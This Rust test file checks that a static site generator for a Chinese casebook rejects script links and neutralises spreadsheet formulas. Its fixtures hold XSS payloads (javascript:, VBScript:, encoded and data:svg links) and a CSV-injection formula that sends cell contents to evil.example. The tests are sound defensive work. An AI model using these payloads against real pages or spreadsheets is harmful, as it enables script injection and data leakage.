//! Hostile or careless input (issue 20): what a build refuses, and how it says so. Each
//! test builds a copy of the `basic` fixture with one bad file added, runs the real
//! binary, and checks what an editor reads (file, line, what is wrong) and what a reader
//! would get (nothing unsafe published).

mod common;

use common::Site;

const CASE_HEAD: &str = "---\ntitle: 测试案例\ndate: 2024-05-01\n";

/// A case file with `front` added to a minimal front matter, and `body`.
fn case(front: &str, body: &str) -> String {
    format!("{CASE_HEAD}{front}---\n{body}")
}

/// `check` and `build` both fail, and both name every `expected` piece.
fn refused(site: &Site, expected: &[&str]) {
    let check = site.run(&["check"]);
    assert_eq!(check.code(), Some(1), "check:\n{}", check.stdout());
    let build = site.build();
    assert!(!build.ok(), "the build should fail:\n{}", build.stdout());
    for piece in expected {
        assert!(
            check.stdout().contains(piece),
            "check does not say {piece:?}:\n{}",
            check.stdout()
        );
        assert!(
            build.stderr().contains(piece),
            "build does not say {piece:?}:\n{}",
            build.stderr()
        );
    }
}

// Item 5: links that would run a script.

#[test]
fn script_links_in_bodies_are_errors_with_file_and_line() {
    let site = Site::from_fixture("basic");
    site.write(
        "content/cases/sichuan/xss.md",
        &case(
            "",
            "正文\n\n[点我](javascript:alert(1))\n\n[大写](JavaScript:alert(2))\n\n[实体](&#106;avascript:alert(3))\n\n![图](data:image/svg+xml;base64,PHN2Zz4=)\n\n[好](https://example.org/)\n",
        ),
    );
    refused(
        &site,
        &[
            "content/cases/sichuan/xss.md:7: the link \"javascript:alert(1)\" starts with `javascript:`",
            "content/cases/sichuan/xss.md:9: the link \"JavaScript:alert(2)\"",
            "content/cases/sichuan/xss.md:11: the link \"javascript:alert(3)\"",
            "content/cases/sichuan/xss.md:13: the link \"data:image/svg+xml",
        ],
    );
}

#[test]
fn script_websites_in_data_are_errors_with_file_and_line() {
    let site = Site::from_fixture("basic");
    site.write(
        "data/organizations.yaml",
        "乐山初心社会工作服务中心:\n  founded: 2018\n  website: \"javascript:alert(1)\"\n厦门市湖里区开心社工服务中心:\n  website: \" VBScript:msgbox(1)\"\n",
    );
    refused(
        &site,
        &[
            "data/organizations.yaml:3: field `website`: the link \"javascript:alert(1)\"",
            "data/organizations.yaml:5: field `website`",
            "`vbscript:`",
        ],
    );
}

// Item 6: formulas in the open data.

#[test]
fn formulas_reach_the_csv_as_text_and_the_json_unchanged() {
    let site = Site::from_fixture("basic");
    let title = "=HYPERLINK(\"http://evil.example/?x=\"&A3,\"详情\")";
    site.write(
        "content/cases/sichuan/formula.md",
        &format!(
            "---\ntitle: '{title}'\ndate: 2024-05-01\nslug: formula\nsummary: \"@SUM(A1:A9)\"\ntags: [\"+1\", \"-2+3\"]\n---\n正文\n"
        ),
    );
    site.build().assert_ok();
    let csv = site.read("data/cases.csv");
    let row = csv
        .lines()
        .find(|l| l.starts_with("formula,"))
        .expect("the case's row");
    assert!(row.contains("\"'=HYPERLINK("), "{row}");
    assert!(row.contains(",'@SUM(A1:A9),"), "{row}");
    assert!(row.contains(",'+1|-2+3,"), "{row}");
    let json = site.read("data/cases.json");
    assert!(json.contains("\"title\": \"=HYPERLINK("), "{json}");
    assert!(json.contains("\"summary\": \"@SUM(A1:A9)\""), "{json}");
}

// Item 9: encoding corners.

#[test]
fn a_config_saved_with_a_byte_order_mark_works() {
    let site = Site::from_fixture("basic");
    let config = std::fs::read_to_string(site.root().join("casebook.yaml")).expect("config");
    site.write("casebook.yaml", &format!("\u{feff}{config}"));
    site.build().assert_ok();
    assert!(site.read("index.html").contains("测试汇编"));
}

#[test]
fn a_line_separator_in_a_title_does_not_shift_reported_lines() {
    let site = Site::from_fixture("basic");
    site.write(
        "content/cases/sichuan/ls.md",
        "---\ntitle: \"金山\u{2028}社工站\"\ndate: 2024-05-01\ntags: [a, b\nsummary: x\n---\n正文\n",
    );
    let run = site.run(&["check"]);
    assert_eq!(run.code(), Some(1), "{}", run.stdout());
    // The YAML breaks where the list is not closed, at the line after it (line 5 of the
    // file) as the editor counts, not line 6 as YAML counts when U+2028 is a line break.
    assert!(
        run.stdout().contains("content/cases/sichuan/ls.md:5:"),
        "{}",
        run.stdout()
    );
}

#[test]
fn a_broken_config_does_not_hide_content_errors() {
    let site = Site::from_fixture("basic");
    site.write("casebook.yaml", "title: 测试汇编\npaginate: [\n");
    site.write("content/cases/sichuan/bad2.md", "---\ntitle: 无日期\n---\n");
    refused(
        &site,
        &[
            "casebook.yaml:",
            "content/cases/sichuan/bad2.md:",
            "`date` is missing",
        ],
    );
}
